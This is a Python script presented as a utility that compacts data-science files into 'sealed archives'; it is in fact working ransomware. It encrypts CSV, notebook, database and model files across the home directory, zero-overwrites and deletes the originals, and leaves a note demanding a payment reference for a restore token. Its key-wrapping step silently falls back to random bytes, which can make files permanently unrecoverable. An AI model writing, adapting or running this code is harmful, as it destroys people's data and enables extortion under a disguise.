"""Compact old notebook outputs and datasets into sealed archives.

Walks the user's home directory for data-science artefacts, seals each one
with AES-GCM under a key held by the archive service, and removes the
unsealed original to free disk space.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import hashes, serialization

log = logging.getLogger("compactor")

TARGET_SUFFIXES = {".csv", ".parquet", ".ipynb", ".xlsx", ".h5", ".pkl",
                   ".feather", ".json", ".sqlite", ".db", ".pt", ".joblib"}
SKIP_DIRS = {".cache", ".local", ".conda", "site-packages", "node_modules", ".git"}
SEALED_SUFFIX = ".sealed"
NOTICE = "README_ARCHIVE_SERVICE.txt"

SERVICE_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAvN3n0dM0s7d5kq1yPq0n
1b3mJm4n4c6rA8Q0sXo2bW0c1lX3gkq6w6J4y2rQ0ZQm7n8Xb5k0X9qk0e2j3m1m
-----END PUBLIC KEY-----"""


def iter_targets(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for fname in filenames:
            p = Path(dirpath) / fname
            if p.suffix.lower() in TARGET_SUFFIXES and not p.is_symlink():
                yield p


def seal_file(path: Path, aes: AESGCM) -> int:
    data = path.read_bytes()
    nonce = secrets.token_bytes(12)
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(nonce + aes.encrypt(nonce, data, path.name.encode()))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return len(data)


def wrap_key(key: bytes) -> bytes:
    try:
        pub = serialization.load_pem_public_key(SERVICE_PUBKEY)
        return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                             algorithm=hashes.SHA256(), label=None))
    except ValueError:
        return secrets.token_bytes(256)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", default=str(Path.home()))
    ap.add_argument("--min-size-kb", type=int, default=1)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    root = Path(args.root)
    key = AESGCM.generate_key(bit_length=256)
    aes = AESGCM(key)
    total = count = 0
    for path in iter_targets(root):
        try:
            if path.stat().st_size < args.min_size_kb * 1024:
                continue
            total += seal_file(path, aes)
            count += 1
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    wrapped = wrap_key(key)
    del key, aes
    (root / NOTICE).write_text(
        f"{count} files ({total / 1e6:.1f} MB) in your home directory were sealed.\n"
        "To restore them, send the token below and the payment reference to\n"
        "restore@archive-desk.example.net\n\n" + wrapped.hex() + "\n")
    print(f"sealed {count} files")


if __name__ == "__main__":
    main()
